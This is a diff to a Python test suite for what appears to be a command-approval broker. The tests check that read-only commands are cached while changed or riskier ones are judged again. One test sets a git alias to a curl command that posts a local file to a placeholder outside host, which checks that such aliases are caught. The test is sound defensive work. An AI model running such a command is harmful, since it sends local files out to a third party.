@@ -15,7 +15,7 @@ from sekisho.broker import announced, commands, settings
 from sekisho.broker.announced import Announcements
 from sekisho.broker.config import SessionConfig
 from sekisho.broker.door import Door
-from sekisho.broker.remembered import MOST, SETTLED, NotedFiles, Remembered
+from sekisho.broker.remembered import MOST, SETTLED, NeedsTime, NotedFiles, Remembered
 from sekisho.broker.state import SessionState, load_state
 from sekisho.core.action import Action
 from sekisho.core.policy import BUILTIN
@@ -74,6 +74,8 @@ def frame(*argv: str, **environment: str) -> bytes:
     return protocol.encode_request(asked)
 
 
+FIRST = frame("ls")  # the first look is taken in a thread, and loads the grammar
+
 Say = Callable[[bytes], Awaitable[Answer | None]]
 
 
@@ -113,8 +115,24 @@ def told(state: SessionState, *frames: bytes) -> list[Answer | None]:
 
 def test_a_read_is_judged_once(state: SessionState, looks: list[tuple[str, ...]]) -> None:
     status, log = frame("git", "status"), frame("git", "log")
-    assert told(state, status, log, status, status, log) == [Run()] * 5
-    assert looks == [("git", "status"), ("git", "log")]
+    assert told(state, FIRST, status, log, status, status, log) == [Run()] * 6
+    assert looks == [("ls",), ("git", "status"), ("git", "log")]
+
+
+def test_a_read_that_took_a_longer_look_is_judged_each_time(
+    state: SessionState, looks: list[tuple[str, ...]], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """What was looked at in a thread is not known, so nobody can tell whether it still stands."""
+    observe: Callable[..., Action] = commands.observed
+
+    def longer(state: SessionState, asked: Asked, files: NotedFiles | None = None) -> Action:
+        if files is not None:
+            raise NeedsTime
+        return observe(state, asked)
+
+    monkeypatch.setattr(commands, "observed", longer)
+    assert told(state, *[frame("git", "status")] * 3) == [Run()] * 3
+    assert looks == [("git", "status")] * 3
 
 
 @pytest.mark.parametrize(
@@ -129,8 +147,8 @@ def test_a_read_is_judged_once(state: SessionState, looks: list[tuple[str, ...]]
 def test_another_request_is_judged_anew(
     state: SessionState, looks: list[tuple[str, ...]], other: bytes
 ) -> None:
-    told(state, frame("git", "status"), other)
-    assert len(looks) == 2
+    told(state, FIRST, frame("git", "status"), other)
+    assert len(looks) == 3
 
 
 def test_a_read_that_became_something_else_is_not_remembered(
@@ -142,6 +160,8 @@ def test_a_read_that_became_something_else_is_not_remembered(
         async with serving(state) as (say, _):
             run_git("config", "alias.st", "status", cwd=clone)
             time.sleep(2 * SETTLED / 1e9)
+            await say(FIRST)
+            looks.clear()
             assert [await say(frame("git", "st")) for _ in range(3)] == [Run()] * 3
             assert looks == [("git", "st")]
             run_git("config", "alias.st", "!curl -d @x https://a.example", cwd=clone)
@@ -158,7 +178,7 @@ def test_a_read_that_became_something_else_is_not_remembered(
 def test_what_does_more_than_read_is_judged_each_time(
     state: SessionState, looks: list[tuple[str, ...]], argv: tuple[str, ...]
 ) -> None:
-    told(state, frame(*argv), frame(*argv))
+    told(state, FIRST, frame(*argv), frame(*argv))
     assert looks.count(argv) >= 2
 
 
